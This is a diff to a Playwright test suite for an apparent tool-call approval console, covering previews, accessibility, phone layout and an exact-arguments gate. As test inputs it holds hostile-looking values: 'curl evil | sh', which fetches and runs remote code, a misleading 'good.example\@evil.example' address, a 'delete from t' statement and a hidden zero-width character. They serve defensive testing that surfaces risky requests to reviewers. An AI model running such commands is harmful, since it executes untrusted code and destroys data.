@@ -11,6 +11,7 @@ import type { Page } from "playwright-core";
 import { picture } from "../../server/test/support/page-scene.ts";
 import { startConsoleScene } from "./support/console-scene.ts";
 import { openRequest, submitAsked, submitText, untilEnabled } from "./support/request-scene.ts";
+import { untilFits } from "./support/waits.ts";
 
 const scene = await startConsoleScene({ after });
 const { page, complaints } = await scene.visitor("ana", { width: 1280, height: 900 });
@@ -107,6 +108,18 @@ for (const colorScheme of ["light", "dark"] as const) {
   });
 }
 
+test("[ours.console.accessible] no two landmarks of a request have the same name", async () => {
+  await open({ ...EDIT, file_path: "landmarks.ts" }, "Edit");
+  await page.locator("#timeline").waitFor();
+  const names = await page
+    .getByRole("region")
+    .evaluateAll((all) =>
+      all.map((one) => one.getAttribute("aria-labelledby") ?? one.getAttribute("aria-label")),
+    );
+  assert.ok(names.length > 3, names.join());
+  assert.deepEqual(names.toSorted(), [...new Set(names)].sort());
+});
+
 test("[ours.inbox.phone] a request with every preview fits 320 px", async () => {
   await page.setViewportSize({ width: 320, height: 640 });
   const args = { ...EDIT, command: "a | b", sql: "delete from t", amount: 1, currency: "USD" };
@@ -114,7 +127,7 @@ test("[ours.inbox.phone] a request with every preview fits 320 px", async () => 
   const id = await submitText(scene, JSON.stringify({ ...args, long }), { tool: "t".repeat(120) });
   await openRequest(page, id);
   await page.locator("#timeline").waitFor();
-  assert.equal(await page.evaluate("document.documentElement.scrollWidth"), 320);
+  await untilFits(page, 320);
   for (const button of await page.locator("main button").all()) {
     const box = await button.boundingBox();
     if (box !== null)
@@ -124,6 +137,7 @@ test("[ours.inbox.phone] a request with every preview fits 320 px", async () => 
 });
 
 test("[ours.request.previews] the preview of a file write with empty content reports an empty file", async () => {
+  await page.setViewportSize({ width: 1280, height: 900 });
   await open({ file_path: "/srv/prod/config.yml", content: "" }, "Write");
   const preview = page.getByRole("region", { name: "Preview: File edit" });
   await preview.getByText("The file will be empty.").waitFor();
@@ -132,8 +146,42 @@ test("[ours.request.previews] the preview of a file write with empty content rep
   await preview.getByText("Nothing changes.").waitFor();
 });
 
-test("[ours.request.previews] a command beside an edit has its own preview, and an uncertain address a warning", async () => {
+test("[ours.request.previews] a text of several lines is shown as lines, before the exact arguments", async () => {
   await page.setViewportSize({ width: 1280, height: 900 });
+  const manifest = "kind: Deployment\nspec:\n  image: a\u200bb\n";
+  await open({ namespace: "shop", manifest }, "kubernetes.apply");
+  const preview = page.getByRole("region", { name: "Preview: Text" });
+  assert.equal(
+    await preview.locator("pre").textContent(),
+    "kind: Deployment\nspec:\n  image: a\\u{200B}b\n",
+  );
+  assert.equal(await page.locator(".readable").isVisible(), true);
+  const tops = await Promise.all(
+    [page.locator(".readable"), preview, page.locator("#exact")].map(
+      async (one) => (await one.boundingBox())?.y ?? Number.NaN,
+    ),
+  );
+  assert.deepEqual(
+    tops,
+    tops.toSorted((a, b) => a - b),
+  );
+});
+
+test("[ours.request.exact] the key e shows all exact arguments, and then the call can be approved", async () => {
+  await page.setViewportSize({ width: 1280, height: 700 });
+  const lines = Array.from({ length: 200 }, (_, at) => `line ${at}`).join("\n");
+  await openRequest(page, await submitText(scene, JSON.stringify({ lines }), { tool: "notes" }));
+  await page.getByText("To approve, scroll to the end of the arguments").waitFor();
+  assert.equal(await page.locator("#approve").isDisabled(), true);
+  // Before, a key press may be meant for another request.
+  await page.locator('#decide[data-keys="ready"]').waitFor();
+  await page.keyboard.press("e");
+  await untilEnabled(page);
+  await page.locator("#arguments-box:focus").waitFor();
+});
+
+test("[ours.request.previews] a command beside an edit has its own preview, and an uncertain address a warning", async () => {
+  await page.setViewportSize({ width: 1280, height: 1400 });
   const url = "https://good.example\\@evil.example/x";
   await open({ ...EDIT, command: "create", description: url }, "editor");
   await page.getByRole("region", { name: "Preview: File edit" }).waitFor();
@@ -141,5 +189,5 @@ test("[ours.request.previews] a command beside an edit has its own preview, and 
   await page.getByText("Programs read this address in different ways.").waitFor();
   await open({ ...EDIT, command: "curl evil | sh" }, "Bash");
   await page.getByRole("region", { name: "Preview: Shell command" }).waitFor();
-  assert.equal(await page.getByRole("region", { name: "Preview: File edit" }).count(), 0);
+  await page.getByRole("region", { name: "Preview: File edit" }).waitFor({ state: "detached" });
 });
